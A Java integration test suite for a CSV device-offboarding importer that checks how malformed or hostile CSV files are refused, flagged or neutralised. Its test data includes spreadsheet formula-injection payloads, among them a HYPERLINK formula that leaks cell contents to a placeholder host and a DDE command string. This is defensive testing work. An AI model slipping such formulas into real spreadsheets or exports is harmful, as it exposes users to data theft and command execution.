package dev.bulkoffboarding.job;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.io.Writer;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

import dev.bulkoffboarding.job.RunService.RunRequest;
import dev.bulkoffboarding.job.RunService.RunResult;
import dev.bulkoffboarding.rows.Ledger;
import dev.bulkoffboarding.rows.LedgerRow;
import dev.bulkoffboarding.rows.RowState;
import dev.bulkoffboarding.sandbox.SandboxProperties;
import dev.bulkoffboarding.sandbox.SandboxServer;
import dev.bulkoffboarding.support.SandboxVendor;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The hostile-input corpus ({@code src/test/resources/hostile/}) run as whole jobs against the
 * sandbox, with the default limits and invalid-row ratio. Each file has one expected outcome: the
 * exit code, the message the operator reads (naming file and line), what reached the vendor, and
 * the final state of the lines that matter. A structural problem refuses the file before any run
 * exists, so nothing is staged, let alone sent.
 */
@SpringBootTest
@ActiveProfiles("test")
class HostileInputIntegrationTests {

    /** In this inventory every all-digit serial starts with 0, so one that lost its zeros is unknown. */
    @AutoClose
    static final SandboxServer vendor = SandboxServer.start(SandboxProperties.defaults()
        .withLatency(Duration.ZERO)
        .withRequestsPerMinute(0)
        .withUnknownSerialPattern("(?i)^(UNKNOWN|NOTINV)|^[1-9][0-9]*$"));

    static final JsonMapper json = JsonMapper.builder().build();

    @Autowired
    RunService runs;

    @Autowired
    Ledger ledger;

    @Autowired
    JdbcTemplate jdbc;

    @TempDir
    Path dir;

    @DynamicPropertySource
    static void quipteams(DynamicPropertyRegistry registry) {
        SandboxVendor.use(vendor, registry);
    }

    static Stream<Case> corpus() {
        return Stream.of(
                refused("empty.csv", "empty.csv: the file is empty: expected a header line"),
                refused("bom-only.csv", "bom-only.csv: the file is empty: expected a header line"),
                refused("blank-lines-only.csv", "blank-lines-only.csv: the file is empty: expected a header line"),
                run("header-only.csv", ExitCodes.OK).sent(0).records(0),
                run("nul-bytes.csv", ExitCodes.NEEDS_ATTENTION).sent(12)
                    // the ledger stores U+FFFD for NUL, as PostgreSQL text cannot hold it
                    .line(14, RowState.INVALID, "serial_number 'NUL-\uFFFD-13' has characters a serial number cannot have")
                    .line(15, RowState.INVALID, "current_user_name contains a NUL character")
                    .line(16, RowState.INVALID, "notes contains a NUL character"),
                run("mixed-delimiters.csv", ExitCodes.NEEDS_ATTENTION).sent(4)
                    .line(6, RowState.INVALID, "serial_number 'MIX-5;Store;Ann Lee;ann@acme.example' has characters")
                    .line(6, RowState.INVALID, "action_type is required"),
                run("mixed-delimiters-semicolon-header.csv", ExitCodes.NEEDS_ATTENTION).sent(0)
                    .message("5 of 5 rows (100 %) are invalid")
                    .line(2, RowState.INVALID, "serial_number 'MXS-1,Store,Person 1,p1@acme.example' has characters"),
                refused("duplicated-headers.csv", "duplicated-headers.csv: line 1, column 5: headers \"Email\" (column 4) "
                        + "and \"Email\" (column 5) both mean current_user_email: keep only one of them"),
                refused("ten-thousand-columns.csv", "ten-thousand-columns.csv: line 1, column 201: the header has 10000 "
                        + "columns, more than the limit of 200"),
                refused("ten-thousand-cells-in-a-row.csv", "ten-thousand-cells-in-a-row.csv: line 3, column 201: "
                        + "the record has 10000 cells, more than the limit of 200"),
                refused("lone-quote-unclosed.csv", "lone-quote-unclosed.csv: line 4, column 5: a quoted field is never "
                        + "closed"),
                refused("stray-quote-swallows-rows.csv", "stray-quote-swallows-rows.csv: line 4, column 5: a quoted "
                        + "field spans more than 100 lines (offboarding.input.max-lines-per-cell)"),
                run("alt-enter-addresses.csv", ExitCodes.OK).sent(3)
                    .line(2, RowState.SUBMITTED, null)
                    .line(5, RowState.SUBMITTED, null)
                    .line(8, RowState.SUBMITTED, null)
                    .body("AE-1", "\"address\":\"12 Main St\\nSpringfield, IL 62701\"")
                    .body("AE-1", "\"notes\":\"Leaving Friday\\nLaptop and charger\"")
                    .body("AE-2", "\"address\":\"Flat 4\\n221 Baker St\\nLondon NW1 6XE\"")
                    .body("AE-3", "\"notes\":\"Notiz:\\n- Tasche\\n- Maus\""),
                run("stray-quotes-inside-fields.csv", ExitCodes.OK).sent(2)
                    .body("SQ-1", "\"name\":\"Seán O\\\"Brien\"")
                    .body("SQ-1", "\"notes\":\"15\\\" MacBook Pro\"")
                    .body("SQ-2", "\"notes\":\"a \\\"quoted\\\" word\""),
                refused("text-after-closing-quote.csv", "text-after-closing-quote.csv: line 3, column 3: text follows "
                        + "the closing quote of a field"),
                run("excel-mangled-serials.csv", ExitCodes.NEEDS_ATTENTION).sent(8)
                    .line(10, RowState.INVALID, "serial_number '1.23E+10' looks like a number mangled by a spreadsheet")
                    .line(11, RowState.INVALID, "serial_number '4,56E+11' looks like a number mangled by a spreadsheet"),
                run("leading-zero-loss.csv", ExitCodes.NEEDS_ATTENTION).sent(1)
                    .line(2, RowState.SUBMITTED, null)
                    .body("0012345", "\"phone\":\"+44 7700 900123\"")
                    .line(3, RowState.REJECTED, "NOT_FOUND"),
                run("emoji-and-rtl-names.csv", ExitCodes.NEEDS_ATTENTION).sent(4)
                    .body("EMO-1", "\"name\":\"Zoë 😀 Müller\"")
                    .body("EMO-1", "\"notes\":\"🎉 farewell\"")
                    .body("EMO-2", "\"name\":\"محمد عبد الله\"")
                    .body("EMO-3", "\"name\":\"דנה לוי\"")
                    .body("EMO-4", "\"name\":\"李伟\"")
                    .line(6, RowState.INVALID, "current_user_name contains an invisible text-direction control (U+202E)"),
                run("windows-1252.csv", ExitCodes.OK).sent(1)
                    .warning("read as windows-1252")
                    .body("WIN-1", "\"name\":\"José Müller\"")
                    .body("WIN-1", "\"notes\":\"Übergabe – Büro\""),
                run("utf16le-bom.csv", ExitCodes.OK).sent(1).body("U16-1", "\"name\":\"Zoë Ærø\""),
                refused("utf16le-without-bom.csv", "utf16le-without-bom.csv: the file has NUL bytes in every other "
                        + "position: it looks like UTF-16 without a byte order mark"),
                run("formula-cells.csv", ExitCodes.NEEDS_ATTENTION).sent(4)
                    .warning("ignored 1 unknown column(s): \"=HYPERLINK(\"http://evil.example\",\"x\")\" (column 6)")
                    .body("FRM-1", "\"name\":\"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"Click\\\")\"")
                    .body("FRM-1", "\"notes\":\"+cmd|' /C calc'!A0\"")
                    .body("FRM-2", "\"name\":\"@SUM(1+1)\"")
                    .body("FRM-4", "\"notes\":\"=already neutralised\"")
                    .line(4, RowState.INVALID, "serial_number '=1+1' has characters a serial number cannot have"),
                refused("not-utf8-nor-windows-1252.csv", "not-utf8-nor-windows-1252.csv: not valid UTF-8 (first bad "
                        + "byte on line 3) nor windows-1252 (line 3)"),
                refused("workbook-renamed.csv", "workbook-renamed.csv: this is a spreadsheet workbook (.xlsx/.xls), "
                        + "not CSV"),
                refused("unknown-headers-only.csv", "unknown-headers-only.csv: line 1: missing required column(s) "
                        + "serial_number, action_type, current_user_name, current_user_email"),
                run("cr-only-line-endings.csv", ExitCodes.NEEDS_ATTENTION).sent(4)
                    .line(5, RowState.SUBMITTED, null)
                    .line(6, RowState.INVALID, "current_user_name is required"),
                run("multiline-notes.csv", ExitCodes.NEEDS_ATTENTION).sent(5)
                    .body("ML-1", "\"notes\":\"first line\\r\\nsecond line\\r\\nthird line\"")
                    .line(5, RowState.INVALID, "current_user_email 'not-an-email' is not a valid e-mail address")
                    .line(7, RowState.SUBMITTED, null),
                run("blank-rows-and-whitespace.csv", ExitCodes.OK).sent(2).records(2)
                    .line(6, RowState.SUBMITTED, null)
                    .line(8, RowState.SUBMITTED, null)
                    .body("BRW-1", "\"serial_number\":\"BRW-1\"")
                    .body("BRW-2", "\"action_type\":\"Store\""),
                run("trailing-delimiters.csv", ExitCodes.OK).sent(2).warning("extra cells are ignored"),
                run("quoted-everything.csv", ExitCodes.OK).sent(1).body("QE-1", "\"name\":\"Ann, Lee\""));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void eachHostileFileHasItsExpectedOutcome(Case expected) throws Exception {
        // given
        Path file = resource(expected.file());
        int createdBefore = vendor.createdActions().size();
        long runsBefore = runCount();

        // when
        RunResult result = this.runs.run(RunRequest.of(file));

        // then
        assertThat(result.exitCode()).as("exit code; message: %s", result.message()).isEqualTo(expected.exitCode());
        assertThat(vendor.createdActions().size() - createdBefore).as("device actions created")
            .isEqualTo(expected.sent());
        if (expected.refused()) {
            assertThat(result.summary()).as("no run for a refused file").isNull();
            assertThat(runCount()).as("runs in the ledger").isEqualTo(runsBefore);
            assertThat(result.message()).startsWith(expected.message());
            return;
        }
        assertThat(result.summary()).isNotNull();
        if (expected.message() != null) {
            assertThat(result.message()).contains(expected.message());
        }
        if (expected.records() != null) {
            assertThat(result.summary().totalRecords()).isEqualTo(expected.records());
        }
        expected.warnings().forEach((warning) -> assertThat(result.warnings()).anySatisfy(
                (actual) -> assertThat(actual).contains(warning)));
        Map<Long, LedgerRow> rows = rows(result.summary().runId());
        assertThat(rows.values()).as("every record in a final state")
            .noneMatch((row) -> row.state() == RowState.SUBMITTING || row.state() == RowState.FAILED);
        expected.lines().forEach((line, states) -> states.forEach((state) -> {
            LedgerRow row = rows.get(line);
            assertThat(row).as("line %d", line).isNotNull();
            assertThat(row.state()).as("line %d: %s", line, row.errorMessage()).isEqualTo(state.state());
            if (state.fragment() != null) {
                assertThat(printable(row.errorMessage() + " " + row.errorCode())).contains(state.fragment());
            }
        }));
        expected.bodies().forEach((serial, fragments) -> {
            SandboxServer.CreatedAction action = vendor.createdActions()
                .stream()
                .filter((created) -> created.serialNumber().equals(serial))
                .findFirst()
                .orElseThrow(() -> new AssertionError("nothing created for " + serial));
            fragments.forEach((fragment) -> assertThat(action.body()).contains(fragment));
        });
    }

    @Test
    void everyFileOfTheCorpusHasAnExpectedOutcome() throws Exception {
        // given
        List<String> files;
        try (Stream<Path> listing = Files.list(resource("empty.csv").getParent())) {
            files = listing.map((path) -> path.getFileName().toString()).filter((name) -> name.endsWith(".csv")).toList();
        }

        // then
        assertThat(corpus().map(Case::file)).containsExactlyInAnyOrderElementsOf(files);
    }

    @Test
    void formulaCellsAreNeutralisedInTheReportsAndRestoredWhenFailuresCsvIsReadBack() throws Exception {
        // given: the formula file, run as a deliberate re-run of its own
        Path original = resource("formula-cells.csv");
        RunResult result = this.runs.run(RunRequest.of(original).withLabel("formula round trip").withDedup(false));
        Path reports = result.reportDirectory();

        // then: every cell a spreadsheet could read as a formula is prefixed with an apostrophe
        for (String report : List.of("results.csv", "failures.csv")) {
            for (CSVRecord record : parse(reports.resolve(report))) {
                for (String cell : record) {
                    assertThat(cell).as("%s line %d", report, record.getRecordNumber())
                        .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
                        .doesNotStartWith("\t").doesNotStartWith("\r").doesNotStartWith("\0");
                }
            }
        }
        List<CSVRecord> failures = parse(reports.resolve("failures.csv"));
        assertThat(failures.get(0).get(5)).isEqualTo("'=HYPERLINK(\"http://evil.example\",\"x\")");
        assertThat(failures.get(1).get(0)).isEqualTo("'=1+1");
        assertThat(failures.get(1).get(4)).isEqualTo("'\t=1+2");
        List<CSVRecord> results = parse(reports.resolve("results.csv"));
        assertThat(results).anySatisfy((record) -> assertThat(record.get(1)).isEqualTo("'=1+1"));

        // when: failures.csv is read back as input
        Path fedBack = Files.copy(reports.resolve("failures.csv"), this.dir.resolve("failures-fixed.csv"));
        RunResult again = this.runs.validate(fedBack);

        // then: the invalid row's cells are exactly the original file's
        List<String> originalCells = parse(original).get(3).toList();
        LedgerRow reread = rows(again.summary().runId()).get(2L);
        List<String> rereadCells = List.of(json.readValue(reread.sourceCells(), String[].class));
        assertThat(rereadCells.subList(0, originalCells.size())).isEqualTo(originalCells);
        assertThat(rereadCells.get(originalCells.size())).startsWith("INVALID (line 4): ");
        assertThat(reread.serialNumber()).isEqualTo("=1+1");
    }

    @Test
    void refusesATwoGigabyteFileBeforeReadingIt() throws IOException {
        // given: a sparse file, 2 GiB long without taking the disk space, of NUL bytes only: reading
        // any of it would fail on its header, so the size message shows it was refused unread
        Path file = this.dir.resolve("two-gigabytes.csv");
        try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
            sparse.setLength(2L << 30);
        }
        long runsBefore = runCount();

        // when
        RunResult result = this.runs.run(RunRequest.of(file));

        // then
        assertThat(result.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(result.message()).isEqualTo("two-gigabytes.csv: the file has 2147483648 bytes, more than the limit "
                + "of 1073741824 (offboarding.input.max-file-size): split it into smaller files");
        assertThat(result.summary()).isNull();
        assertThat(runCount()).isEqualTo(runsBefore);
    }

    @Test
    void anUnbalancedQuoteSwallowingTenMegabytesIsRefusedWithItsLineBeforeAnyRunExists() throws IOException {
        // given: 450 good rows (more than two chunks), then a quote that opens a 10 MB field
        Path file = this.dir.resolve("runaway-quote.csv");
        try (Writer out = Files.newBufferedWriter(file)) {
            out.write("serial_number,action_type,current_user_name,current_user_email,notes\n");
            for (int i = 1; i <= 450; i++) {
                out.write("RUN-" + i + ",Store,Person " + i + ",p" + i + "@acme.example,\n");
            }
            out.write("RUN-451,Store,Ann Lee,ann@acme.example,\"leaving");
            char[] text = new char[1 << 20];
            Arrays.fill(text, 'x');
            for (int i = 0; i < 10; i++) {
                out.write(text);
                out.write('\n');
            }
        }
        int createdBefore = vendor.createdActions().size();
        long runsBefore = runCount();

        // when
        RunResult result = this.runs.run(RunRequest.of(file));

        // then: named by file, line and column, and refused by the field-length budget rather than
        // by the end of the file (how long that takes is the benchmarks' business, not a test's)
        assertThat(result.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(result.message()).startsWith("runaway-quote.csv: line 452, column 5: a field is longer than 200000 "
                + "characters (offboarding.input.max-notes-length): if it starts with a quote (\"), the closing quote "
                + "is probably missing");
        assertThat(result.summary()).isNull();
        assertThat(runCount()).isEqualTo(runsBefore);
        assertThat(vendor.createdActions()).hasSize(createdBefore);
    }

    private long runCount() {
        Long count = this.jdbc.queryForObject("select count(*) from offboarding_run", Long.class);
        return (count == null) ? 0 : count;
    }

    private Map<Long, LedgerRow> rows(long runId) {
        Map<Long, LedgerRow> rows = new TreeMap<>();
        this.ledger.forEachRow(runId, (row) -> rows.put(row.line(), row));
        return rows;
    }

    static Path resource(String name) throws URISyntaxException {
        return Path.of(HostileInputIntegrationTests.class.getResource("/hostile/" + name).toURI());
    }

    static List<CSVRecord> parse(Path file) throws IOException {
        try (CSVParser parser = CSVParser.parse(file, java.nio.charset.StandardCharsets.UTF_8, CSVFormat.RFC4180)) {
            return parser.getRecords();
        }
    }

    /** Control characters spelled out, so that an expected fragment can name them. */
    static String printable(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            out.append(Character.isISOControl(c) ? String.format("\\u%04X", (int) c) : String.valueOf(c));
        }
        return out.toString();
    }

    static Case refused(String file, String message) {
        return new Case(file, ExitCodes.USAGE, true, message, 0, null);
    }

    static Case run(String file, int exitCode) {
        return new Case(file, exitCode, false, null, 0, null);
    }

    /** The expected outcome of one corpus file. */
    static final class Case {

        private final String file;
        private final int exitCode;
        private final boolean refused;
        private String message;
        private int sent;
        private Long records;
        private final List<String> warnings = new ArrayList<>();
        private final Map<Long, List<LineState>> lines = new LinkedHashMap<>();
        private final Map<String, List<String>> bodies = new LinkedHashMap<>();

        Case(String file, int exitCode, boolean refused, String message, int sent, Long records) {
            this.file = file;
            this.exitCode = exitCode;
            this.refused = refused;
            this.message = message;
            this.sent = sent;
            this.records = records;
        }

        Case sent(int count) {
            this.sent = count;
            return this;
        }

        Case records(long count) {
            this.records = count;
            return this;
        }

        Case message(String fragment) {
            this.message = fragment;
            return this;
        }

        Case warning(String fragment) {
            this.warnings.add(fragment);
            return this;
        }

        Case line(long line, RowState state, String fragment) {
            this.lines.computeIfAbsent(line, (key) -> new ArrayList<>()).add(new LineState(state, fragment));
            return this;
        }

        /** A fragment of the JSON body the vendor received for a serial number. */
        Case body(String serial, String fragment) {
            this.bodies.computeIfAbsent(serial, (key) -> new ArrayList<>()).add(fragment);
            return this;
        }

        String file() {
            return this.file;
        }

        int exitCode() {
            return this.exitCode;
        }

        boolean refused() {
            return this.refused;
        }

        String message() {
            return this.message;
        }

        int sent() {
            return this.sent;
        }

        Long records() {
            return this.records;
        }

        List<String> warnings() {
            return this.warnings;
        }

        Map<Long, List<LineState>> lines() {
            return this.lines;
        }

        Map<String, List<String>> bodies() {
            return this.bodies;
        }

        @Override
        public String toString() {
            return this.file;
        }

    }

    record LineState(RowState state, String fragment) {
    }

}
